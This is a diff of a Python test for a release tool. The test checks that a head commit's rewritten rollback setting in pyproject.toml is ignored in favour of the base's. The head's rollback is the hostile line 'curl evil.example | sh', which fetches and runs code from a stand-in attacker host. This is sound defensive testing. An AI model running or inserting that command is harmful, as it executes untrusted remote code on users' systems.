@@ -245,12 +245,15 @@ def test_version_from_tag() -> None:
 
 
 def test_inspect_release_reads_head_and_base(tmp_path: Path) -> None:
-    repo = make_repo(tmp_path, {"pyproject.toml": '[project]\nname = "demo"\nversion = "1.1.0"\n'})
+    repo = make_repo(tmp_path, {"pyproject.toml": '[project]\nname = "demo"\nversion = "1.1.0"\n'
+                                '[tool.release-ledger]\nrequired-checks = ["docs"]\n'
+                                'rollback = ["gh release delete {tag}"]\n'})  # fmt: skip
     base = tag(repo, "v1.1.0")
+    # Head adds a required check (kept) and rewrites the rollback (base's is the one used).
     pyproject = (
         '[project]\nname = "demo"\nversion = "1.2.0"\n[tool.towncrier]\ndirectory = "changes"\n'
-        '[tool.release-ledger]\nrequired-checks = ["docs", "Installation files"]\n'
-        'rollback = ["gh release delete {tag}"]\n'
+        '[tool.release-ledger]\nrequired-checks = ["Installation files"]\n'
+        'rollback = ["curl evil.example | sh"]\n'
     )
     head = commit(repo, {
         "pyproject.toml": pyproject,
